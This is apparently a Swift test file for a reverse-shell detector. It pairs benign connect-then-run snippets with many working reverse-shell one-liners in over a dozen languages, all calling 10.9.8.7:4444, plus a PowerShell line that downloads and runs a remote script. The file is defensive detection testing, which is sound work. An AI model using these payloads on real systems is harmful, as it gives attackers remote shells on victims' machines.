import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Code that connects and code that runs something, and when the two together give a shell away.
@Suite struct ScriptMatcherTests {
  /// A connection and a command of the program's own.
  @Test(arguments: [
    "import socket, subprocess\ns = socket.socket()\nwhile s.connect_ex((\"10.0.0.5\", p)): pass\nsubprocess.Popen([\"bash\", \"-c\", \"exec server --port %d\" % p], stdout=f)\ns.recv(9)",
    "import socket, subprocess\ns = socket.create_connection((\"db\", 5432), timeout=2)\ns.close()\nsubprocess.check_call([\"bash\",\"-c\",\"alembic upgrade head\"])",
    "python3 -c 'import socket, subprocess; socket.create_connection((\"db\", 5432)).close(); subprocess.check_call([\"bash\",\"-c\",\"alembic upgrade head\"])'",
    "perl -MIO::Socket::INET -e 'until(IO::Socket::INET->new(\"db:5432\")){sleep 1} exec \"sh\",\"-c\",\"./start\"'",
    "#!/bin/sh\nperl -MIO::Socket -e 'exit !IO::Socket::INET->new(\"db:5432\")' && exec sh -c \"$@\"",
    "ruby -rsocket -e 'TCPSocket.new(\"db\",5432); exec \"sh\",\"-c\",\"rails s\"'",
    "php -r 'while(!@fsockopen(\"db\",3306)) sleep(1); exec(\"/bin/sh -c migrate\");'",
    "<?php $s=fsockopen($host,$port); fwrite($s,$m); $x=fgets($s,10); $out=curl_exec($ch); $db->exec($sql);",
    "const net=require('net'),{execSync}=require('child_process');net.connect(5432,'db',()=>{execSync('sh -c migrate')})",
    "c,_:=net.Dial(\"tcp\",\"db:5432\");c.Close();out,_:=exec.Command(\"bash\",\"-c\",\"migrate\").Output()",
    "for{c,e:=net.Dial(\"tcp\",addr);if e==nil{c.Close();break}};syscall.Exec(bin, args, os.Environ())",
    "use std::net::TcpStream; while TcpStream::connect(\"db:5432\").is_err() {}; Command::new(\"./server\").status();",
    "while TcpStream::connect(\"db:5432\").is_err() {}; Command::new(\"sh\").arg(\"-c\").arg(\"migrate\").status();",
    "local socket=require(\"socket\"); local c=socket.connect(\"10.0.0.5\",80); os.execute(\"sleep 1\")",
    "local s=ngx.socket.tcp() local ok=s:connect(\"10.0.0.5\",6379) local f=io.popen(\"hostname\")",
    "con <- socketConnection(\"10.0.0.5\", 2003); writeLines(\"x\", con); system(\"date\")",
    "import \"dart:io\"; Socket.connect(\"10.0.0.5\",80).then((s){s.destroy();}); Process.run(\"git\",[\"status\"]);",
    "import asyncio\nr,w=await asyncio.open_connection(\"10.0.0.5\",80)\np=await asyncio.create_subprocess_exec(\"ls\")",
    "$t=New-Object Net.Sockets.TcpClient(\"10.0.0.5\",443); if($t.Connected){iex \"echo ok\"}",
    "iex ((New-Object System.Net.WebClient).DownloadString(\"https://x.example/i.ps1\")); $t=New-Object System.Net.Sockets.TcpClient($h,443)",
    "Socket s=new Socket(host,port); s.getOutputStream().write(x); Runtime.getRuntime().availableProcessors(); db.exec(sql);",
    "Socket s=new Socket(\"10.0.0.5\",1); s.getInputStream(); statement.execute(); Runtime.getRuntime().gc();",
    "try (Socket s = new Socket(\"db\", 1)) {} finally { new ProcessBuilder(\"bash\",\"-c\",\"./start.sh\").start(); }",
    "import psycopg2,subprocess\nc=psycopg2.connect(host=\"10.0.0.5\",port=5432)\nsubprocess.run(cmd, stdin=f)",
    "import redis,os\nr=redis.Redis(host=\"10.0.0.5\",port=6379)\nr.connect()\nos.system(r.get(\"cmd\"))",
    "import socket,os; s=socket.create_connection(('10.0.0.5',80)); os.dup2(1,2)",
    "struct sockaddr_in a; connect(s,&a,16); int l=open(\"log\",1); dup2(l,1); dup2(l,2);",
    "use IO::Socket::INET; IO::Socket::INET->new(\"10.0.0.5:25\"); open(STDIN,\"</dev/null\"); $sth->execute();",
    "set s [socket localhost 80]; puts $s \"GET /\"; gets $s line; exec date",
    "puts -nonewline \"x\"; catch {set s [socket h 25]}; eval $cmd",
    "awk 'BEGIN{while((\"date\"|getline d)>0) print d; \"hostname\" |& getline h; print h > \"/inet/tcp/0/h/80\"}'",
    "import socket,subprocess\nclass A:\n def run(self,host,port):\n  self.s.connect((host, port))\n  m=self.s.recv(4096)\n  subprocess.run(m)",
    "import socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.5\",10051))\nr=s.recv(9)\ncmd=[\"df\",\"-h\"]\nsubprocess.check_output(cmd)",
    "import socket,subprocess\ns=socket.create_connection((\"10.0.0.5\",22)); s.recv(64)\nsubprocess.run(f\"ssh {host} uptime\",shell=True)",
    "<?php $s=fsockopen(\"10.0.0.5\",25);$r=fgets($s);$q=\"SELECT `$col` FROM t\";",
    "c,_:=net.Dial(\"tcp\",\"10.0.0.5:2003\");cmd:=exec.Command(name,args...);cmd.Stdin = os.Stdin;cmd.Run()",
    "Socket s=new Socket(\"10.0.0.5\",25);s.getInputStream();String[] cmd={\"/bin/sh\",\"-c\",\"ls /tmp\"};Runtime.getRuntime().exec(cmd);",
    "$t=New-Object Net.Sockets.TcpClient(\"10.0.0.5\",443); if($t.Connected){iex $cmd}",
  ])
  func aCommandOfItsOwnIsNoShell(text: String) { #expect(shells(text).isEmpty) }

  /// The same words where what is run is a shell, or what came in.
  @Test(arguments: [
    "import socket,subprocess\ns=socket.create_connection((\"10.9.8.7\",4444))\nwhile 1: subprocess.run([\"bash\",\"-c\",s.recv(999)])",
    "import socket,os\ns=socket.create_connection((\"10.9.8.7\",4444))\nwhile 1: os.system(\"sh -c \"+s.recv(99).decode())",
    "import socket,subprocess;s=socket.socket();s.connect((\"10.9.8.7\",4444));subprocess.Popen([\"sh\",\"-i\"],stdin=s)",
    "import socket,zlib\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\nd=s.recv(9)\nexec(zlib.decompress(d),{\"s\":s})",
    "python3 -c 'a=__import__;s=a(\"socket\");o=a(\"os\").dup2;c=s.socket();c.connect((\"10.9.8.7\",4444));o(c.fileno(),0)'",
    "import socket,os\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\ncmd=\"\"\nwhile cmd!=\"x\":\n cmd=s.recv(99)\n os.system(cmd)",
    "import socket,os\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\nd=s.recv(99).decode()\nos.popen(f\"{d}\")",
    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.9.8.7:4444\");STDIN->fdopen($c,r);system$_ while<>'",
    "ruby -rsocket -e 's=TCPSocket.new(\"10.9.8.7\",4444);while c=s.gets;s.print `#{c}`;end'",
    "php -r '$s=fsockopen(\"10.9.8.7\",4444);while($c=fgets($s)){exec(\"/bin/sh -c $c\");}'",
    "php -r '$s=fsockopen(\"10.9.8.7\",4444);$b=fread($s,99);eval($b);'",
    "c,_:=net.Dial(\"tcp\",\"10.9.8.7:4444\");r:=bufio.NewReader(c);m,_:=r.ReadString(10);exec.Command(\"sh\",\"-c\",m).Run()",
    "use std::net::TcpStream; let s=TcpStream::connect(\"10.9.8.7:4444\"); Command::new(\"/bin/sh\").arg(\"-i\").stdin(s);",
    "local socket=require(\"socket\");local t=socket.connect(\"10.9.8.7\",4444);os.execute(t:receive(\"*l\"))",
    "import 'dart:io'; Socket.connect(\"10.9.8.7\",4444).then((s){s.listen((d){Process.run('sh',['-c',d]);});});",
    "$t=New-Object Net.Sockets.TcpClient(\"10.9.8.7\",4444);$n=$t.GetStream();$r=iex \". { $d } 2>&1\"",
    "Socket s=new Socket(\"10.9.8.7\",4444);s.getInputStream();Runtime r=Runtime.getRuntime();r.exec(line);",
    "set s [socket 10.9.8.7 4444];while {[gets $s c] >= 0} {set e [exec {*}$c];puts $s $e;flush $s};close $s;",
    "struct sockaddr_in a;a.sin_port=htons(4444);inet_pton(AF_INET,\"10.9.8.7\",&a.sin_addr);connect(s,&a,16);for(i=0;i<3;i++)dup2(s,i);execl(\"/bin/sh\",\"sh\",0);",
    "import telnetlib,subprocess;t=telnetlib.Telnet(\"10.9.8.7\",4444)\nwhile 1:t.write(subprocess.getoutput(t.read_until(b\"\\n\")))",
    "{:ok,s}=:gen_tcp.connect('10.9.8.7',4444,[]);{:ok,d}=:gen_tcp.recv(s,0);System.cmd(d,[])",
    "gawk 'BEGIN{s=\"/inet4/tcp/0/10.9.8.7/4444\";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}'",
  ])
  func whatComesInIsRun(text: String) {
    #expect(shells(text).first?.host == "10.9.8.7")
    #expect(shells(text).first?.port == 4444)
  }

  /// In a program words of all kinds stand somewhere: there a far end that is another machine is wanted.
  @Test(arguments: [
    ("s.connect((\"10.9.8.7\",4444))", true), ("s.connect((\"127.0.0.1\",4444))", false), ("s.connect(x)", false),
  ])
  func aProgramHasAFarEnd(call: String, isFound: Bool) {
    let lines = String(repeating: "print(1)\n", count: 300)
    #expect(shells("import socket,os,subprocess\n\(lines)\(call)\nsubprocess.Popen([\"sh\"])").isEmpty != isFound)
  }

  /// The port is the call's own; what comes behind it is not.
  @Test(arguments: [
    "#define REMOTE_ADDR \"10.9.8.7\"\n#define REMOTE_PORT 4444\nstruct sockaddr_in a;a.sin_addr.s_addr=inet_addr(REMOTE_ADDR);a.sin_port=htons(REMOTE_PORT);connect(s,&a,16);dup2(s,0);dup2(s,1);execve(\"/bin/sh\",0,0);",
    "import socket,os;host=\"10.9.8.7\";port=4444;s=socket.socket();s.connect((host, port));d=s.recv(4096);os.system(d)",
  ])
  func aPortIsTheCallsOwn(text: String) {
    #expect(shells(text).first?.host == "10.9.8.7")
    #expect(shells(text).first?.port == 4444)
  }

  /// A name with `ip` in it is not of an address, nor is a field.
  @Test func aFieldIsNoHost() {
    let text =
      "import socket,pty;pipe=subprocess.PIPE;host=args.host;s=socket.socket();s.connect((host,port));pty.spawn('sh')"
    #expect(shells(text).first?.kind == .reverseShell)
    #expect(shells(text).first?.host == nil)
  }
}
